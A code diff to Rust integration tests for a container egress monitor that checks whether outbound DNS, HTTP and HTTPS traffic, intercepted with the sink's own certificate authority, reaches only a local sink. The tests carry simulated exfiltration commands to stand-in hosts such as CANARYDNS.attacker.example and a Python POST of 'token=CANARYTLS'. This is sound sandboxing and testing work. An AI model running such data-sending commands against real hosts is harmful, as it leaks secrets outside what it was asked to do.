@@ -108,8 +108,8 @@ async fn what_a_container_sends_out_reaches_only_the_sink() {
     assert_eq!((post.exit_code, post.stdout.as_str()), (Some(0), "ok"), "{post:?}");
     let lookup = sh(&c, "nslookup CANARYDNS.attacker.example", 20).await;
     assert!(lookup.success() && lookup.stdout.contains("127.0.0.1"), "{lookup:?}");
-    let tls = sh(&c, "wget -q -O - https://secure.example/", 20).await;
-    assert_ne!(tls.exit_code, Some(0), "TLS is never terminated: {tls:?}");
+    // The sink terminates TLS with its own authority; busybox's wget does not check certificates.
+    let tls = sh(&c, "wget -q -O - 'https://secure.example/s?k=CANARYTLS'", 20).await;
 
     // The sockets' directory is mounted read-only, and there is no interface but loopback.
     let ro = sh(&c, "touch /run/skillscope-egress/x", 10).await;
@@ -136,6 +136,10 @@ async fn what_a_container_sends_out_reaches_only_the_sink() {
     }
     let hello = find(&records, |r| r.kind == EgressKind::Tls).unwrap_or_else(|| panic!("no TLS: {records:#?}"));
     assert_eq!((hello.host.as_deref(), hello.port), (Some("secure.example"), Some(443)));
+    if tls.success() {
+        let https = find(&records, |r| r.kind == EgressKind::Https).unwrap_or_else(|| panic!("{records:#?}"));
+        assert_eq!(https.path.as_deref(), Some("/s?k=CANARYTLS"), "{records:#?}");
+    }
     assert_eq!(sink.dropped(), 0);
 
     c.remove().await.expect("remove");
@@ -235,7 +239,10 @@ async fn a_glibc_image_with_python_goes_through_the_forwarder_too() {
     let scope = Scope::new("glibc");
     let (files, sink_dir) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
     let sink = Sink::start(sink_dir.path()).expect("sink");
-    let spec = trial_spec(&scope, bootstrap::DEBIAN_PYTHON_TAG, files.path(), sink_dir.path());
+    let mut spec = trial_spec(&scope, bootstrap::DEBIAN_PYTHON_TAG, files.path(), sink_dir.path());
+    // The container trusts the sink's authority: its HTTPS is seen in the clear.
+    spec.ro_mounts.push(skillscope_egress::write_ca(files.path(), sink.ca_pem()).expect("write CA"));
+    spec.env.extend(skillscope_egress::ca_env());
     let c = engine.create(&spec).await.expect("create");
     c.start().await.expect("start");
 
@@ -244,20 +251,31 @@ async fn a_glibc_image_with_python_goes_through_the_forwarder_too() {
     let script = r#"
 import socket, ssl, urllib.request
 print(urllib.request.urlopen("http://py.example/p?k=CANARYPY", data=b"x" * 70000, timeout=10).read().decode())
+print(urllib.request.urlopen("https://secure.example/s?k=CANARYS", data=b"token=CANARYTLS", timeout=10).read().decode())
+pinned = ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt")
 try:
-    urllib.request.urlopen("https://tls.example/", timeout=10)
+    urllib.request.urlopen("https://tls.example/", timeout=10, context=pinned)
 except Exception as e:
     print("tls refused:", type(e).__name__)
 "#;
     let py = sh(&c, &format!("python3 -c '{script}'"), 30).await;
-    assert!(py.success() && py.stdout.starts_with("ok\ntls refused"), "{py:?}");
+    assert!(py.success() && py.stdout.starts_with("ok\nok\ntls refused"), "{py:?}");
 
     let records = sink.records();
     let post = find(&records, |r| r.kind == EgressKind::Http).unwrap_or_else(|| panic!("{records:#?}"));
     assert_eq!((post.host.as_deref(), post.path.as_deref()), (Some("py.example"), Some("/p?k=CANARYPY")));
     assert_eq!((post.body.len(), post.body_bytes), (skillscope_egress::BODY_CAP, 70000));
-    let hello = find(&records, |r| r.kind == EgressKind::Tls).unwrap_or_else(|| panic!("{records:#?}"));
-    assert_eq!(hello.host.as_deref(), Some("tls.example"));
+    // HTTPS with the sink's authority trusted: the request in the clear.
+    let https = find(&records, |r| r.kind == EgressKind::Https).unwrap_or_else(|| panic!("{records:#?}"));
+    assert_eq!((https.host.as_deref(), https.path.as_deref()), (Some("secure.example"), Some("/s?k=CANARYS")));
+    assert_eq!(
+        (https.method.as_deref(), https.body.as_str(), https.port),
+        (Some("POST"), "token=CANARYTLS", Some(443))
+    );
+    // A client that pins its own roots refuses the sink: its server name is all there is.
+    let pinned = find(&records, |r| r.kind == EgressKind::Tls && r.host.as_deref() == Some("tls.example"));
+    assert!(pinned.is_some(), "{records:#?}");
+    assert!(!records.iter().any(|r| r.kind == EgressKind::Https && r.host.as_deref() == Some("tls.example")));
 
     c.remove().await.expect("remove");
     sink.stop().await;
